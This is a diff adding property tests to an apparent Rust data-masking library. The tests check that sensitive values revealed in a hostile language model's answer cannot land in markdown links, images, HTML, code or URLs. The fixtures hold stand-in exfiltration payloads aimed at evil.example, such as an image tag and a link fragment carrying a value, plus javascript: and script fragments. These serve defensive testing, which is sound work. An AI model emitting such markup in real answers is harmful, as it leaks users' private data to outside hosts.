@@ -291,3 +291,246 @@ fn no_role_no_values() {
     assert!(values(&a.answer_segments.unwrap()).is_empty());
     assert_eq!(a.revealed, 0);
 }
+
+mod oracle {
+    //! A hostile model writes any markup around the tokens it was given; a
+    //! real CommonMark parser (pulldown-cmark) then judges where each
+    //! revealed value landed. No value may be in a link or image target or
+    //! title, in HTML, in code, or in a run of text that reads as a URL.
+
+    use std::collections::BTreeSet;
+    use std::sync::Arc;
+
+    use proptest::prelude::*;
+    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+    use sqlveil::chat::{reveal_answer, AnswerSegment};
+    use sqlveil::tokens::RequestTokens;
+    use sqlveil::{MasterKey, MemoryVault, Policy, TokenClass, Tokens};
+
+    /// Every value carries a marker that no fragment holds; one value is
+    /// itself markup, as a hostile stored row would be.
+    const VALUES: [&str; 4] = [
+        "Zqmark0 Zqmark0b",
+        "zqmark1@zqmark1b.com",
+        "](https://evil.example/?m=Zqmark2",
+        "<img src=https://evil.example/Zqmark3>",
+    ];
+
+    fn setup() -> (Tokens, Vec<String>, RequestTokens, BTreeSet<TokenClass>) {
+        let policy = Policy::from_toml_str(
+            "version = 1\n[tables.t.columns]\nname = { action = \"tokenize\", class = \"person\" }\n",
+        )
+        .unwrap();
+        let tokens = Tokens::new(
+            &policy,
+            MasterKey::from_bytes(&[33; 32]),
+            Some(Arc::new(MemoryVault::new())),
+        )
+        .unwrap();
+        let person = TokenClass::new("person").unwrap();
+        let issued: Vec<String> = VALUES
+            .iter()
+            .map(|v| tokens.issue(&person, v).unwrap())
+            .collect();
+        let mut allowed = RequestTokens::new();
+        for t in &issued {
+            allowed.add_text(&tokens, t);
+        }
+        (tokens, issued, allowed, [person].into_iter().collect())
+    }
+
+    fn fragment() -> impl Strategy<Value = String> {
+        prop_oneof![
+            4 => (0usize..4).prop_map(|i| format!("{{T{i}}}")),
+            6 => proptest::sample::select(vec![
+                "[", "]", "(", ")", "![", "](", "<", ">", "`", "``", "\n```\n", "\n", " ", "\t",
+                "\"", "'", "=", "https://evil.example/?c=", "http://", "www.", "evil.example/",
+                "mailto:", "@evil.example", "javascript:", "//", "\\\\", "<img src=", "<a href=\"",
+                "<script>", "</script>", "<!--", "-->", "\n[r]: ", "[x][r]", "<https://e.example/",
+                "text ", ":", "?q=", "#", "%20", "*", "_", "\n    ", "~~~\n", "&lt;", "\u{a0}",
+                "data:,", "e.g.", "a.co/", "<svg><a href=", "title=", "![a](", "[b](<",
+            ])
+            .prop_map(String::from),
+        ]
+    }
+
+    fn answer() -> impl Strategy<Value = String> {
+        proptest::collection::vec(fragment(), 1..24).prop_map(|v| v.concat())
+    }
+
+    fn has_marker(s: &str) -> bool {
+        s.to_lowercase().contains("zqmark")
+    }
+
+    /// Whether a value is inside what a GFM autolinker or linkify would make
+    /// a link of, in a run of text without blanks or `<`: from the start of
+    /// a scheme, `www.`, an email's local part or a domain, to the run's end.
+    fn value_in_url(run: &str) -> bool {
+        // The email value is its own (mail) link: not a value sent anywhere.
+        let r = run.to_lowercase().replace(VALUES[1], "x");
+        let b = r.as_bytes();
+        let back = |mut i: usize| {
+            while i > 0
+                && (b[i - 1].is_ascii_alphanumeric()
+                    || matches!(b[i - 1], b'.' | b'-' | b'+' | b'_' | b'%'))
+            {
+                i -= 1;
+            }
+            i
+        };
+        let start = [
+            "://",
+            "www.",
+            "mailto:",
+            "javascript:",
+            "data:",
+            "@",
+            ".example/",
+            ".co/",
+        ]
+        .iter()
+        .flat_map(|p| {
+            r.match_indices(p)
+                // An email needs a local part before its `@` and a dotted
+                // domain after it.
+                // `www.` needs a domain after it.
+                .filter(|(i, _)| {
+                    *p != "www." || r[i + 4..].starts_with(|c: char| c.is_ascii_alphanumeric())
+                })
+                // A scheme needs letters before `://`.
+                .filter(|(i, _)| *p != "://" || back(*i) < *i)
+                .filter(|(i, _)| {
+                    *p != "@"
+                        || (back(*i) < *i && {
+                            let d: String = r[i + 1..]
+                                .chars()
+                                .take_while(|c| {
+                                    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
+                                })
+                                .collect();
+                            d.trim_matches('.').contains('.')
+                        })
+                })
+                .map(|(i, _)| back(i))
+                .collect::<Vec<_>>()
+        })
+        .min();
+        start.is_some_and(|start| r.match_indices("zqmark").any(|(m, _)| m >= start))
+    }
+
+    /// Where the values landed: the first violation, if any.
+    fn judge(out: &str) -> Option<String> {
+        let mut code = 0usize;
+        let mut text = String::new();
+        let check_text = |text: &mut String| -> Option<String> {
+            // Autolinkers (GFM, linkify) end a URL at a blank or a `<`.
+            for run in text.split(|c: char| c.is_whitespace() || c == '<') {
+                if value_in_url(run) {
+                    return Some(format!("value in a URL-like run {run:?}"));
+                }
+            }
+            text.clear();
+            None
+        };
+        for ev in Parser::new_ext(out, Options::all()) {
+            match ev {
+                Event::Text(t) if code == 0 => text.push_str(&t),
+                Event::SoftBreak | Event::HardBreak => text.push(' '),
+                other => {
+                    if let Some(v) = check_text(&mut text) {
+                        return Some(v);
+                    }
+                    match other {
+                        Event::Start(Tag::Link {
+                            dest_url, title, ..
+                        })
+                        | Event::Start(Tag::Image {
+                            dest_url, title, ..
+                        }) if has_marker(&dest_url) || has_marker(&title) => {
+                            return Some(format!("value in a link target {dest_url:?} {title:?}"));
+                        }
+                        Event::Html(h) | Event::InlineHtml(h) if has_marker(&h) => {
+                            return Some(format!("value in HTML {h:?}"));
+                        }
+                        Event::Code(c) if has_marker(&c) => {
+                            return Some(format!("value in code {c:?}"));
+                        }
+                        Event::Start(Tag::CodeBlock(_)) => code += 1,
+                        Event::End(TagEnd::CodeBlock) => code = code.saturating_sub(1),
+                        Event::Text(t) if code > 0 && has_marker(&t) => {
+                            return Some(format!("value in a code block {t:?}"));
+                        }
+                        _ => {}
+                    }
+                }
+            }
+        }
+        check_text(&mut text)
+    }
+
+    /// What the CommonMark judge found in earlier versions, each kept as a
+    /// case: a value after `mailto:` glued to text, in indented code, in an
+    /// unclosed comment, after a "tag" a renderer reads as text (so a domain
+    /// in it links the value), in an HTML block.
+    #[test]
+    fn cases_the_judge_found() {
+        let (tokens, issued, allowed, classes) = setup();
+        for template in [
+            "{T0}mailto:{T0}{T2}",
+            "\t{T0}{T0}{T0}",
+            ">\n    {T0}",
+            "<!--<script>{T0}",
+            "--><evil.example/>{T0}",
+            "<div>\n{T0}\n</div>",
+            "@evil.examplehttps://evil.example/?c={T0}",
+            "https://evil.example/?c=](x){T0}",
+        ] {
+            let mut text = template.to_string();
+            for (i, t) in issued.iter().enumerate() {
+                text = text.replace(&format!("{{T{i}}}"), t);
+            }
+            for hosts in [None, Some(&[][..])] {
+                let (segments, _) =
+                    reveal_answer(&tokens, &text, &classes, &allowed, hosts).unwrap();
+                let out = AnswerSegment::join(&segments);
+                assert!(judge(&out).is_none(), "{template}: {out}");
+            }
+        }
+        // While a value in a link's own text, or after a closed link, is
+        // revealed.
+        let t = &issued[0];
+        let text = format!("[{t}](https://crm.example.com/p) and [x](/a){t}.");
+        let (segments, n) = reveal_answer(&tokens, &text, &classes, &allowed, None).unwrap();
+        assert_eq!(n, 2, "{segments:?}");
+    }
+
+    proptest! {
+            #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
+
+            #[test]
+            fn no_value_lands_where_a_renderer_sends_it(template in answer()) {
+                let (tokens, issued, allowed, classes) = setup();
+                let mut text = template.clone();
+                for (i, t) in issued.iter().enumerate() {
+                    text = text.replace(&format!("{{T{i}}}"), t);
+                }
+                let (segments, _) = reveal_answer(&tokens, &text, &classes, &allowed, None).unwrap();
+                let out = AnswerSegment::join(&segments);
+                prop_assert!(judge(&out).is_none(), "{:?}\n-> {:?}\n{:?}", text, out, judge(&out));
+                // With every link removed, no link, image, HTML or URL is left,
+                // and no value is in code.
+                let (segments, _) = reveal_answer(&tokens, &text, &classes, &allowed, Some(&[])).unwrap();
+                let out = AnswerSegment::join(&segments);
+                prop_assert!(judge(&out).is_none(), "{:?}\n-> {:?}", text, out);
+                for ev in Parser::new_ext(&out, Options::all()) {
+                    if let Event::Start(Tag::Link { dest_url, .. }) | Event::Start(Tag::Image { dest_url, .. }) = &ev {
+    let base = url::Url::parse("https://site.invalid/").unwrap();
+                        let external = base
+                            .join(dest_url)
+                            .map_or(true, |u| u.host_str() != Some("site.invalid"));
+                        prop_assert!(!external, "{:?}\n-> {:?}: {:?}", text, out, dest_url);
+                    }
+                }
+            }
+        }
+}
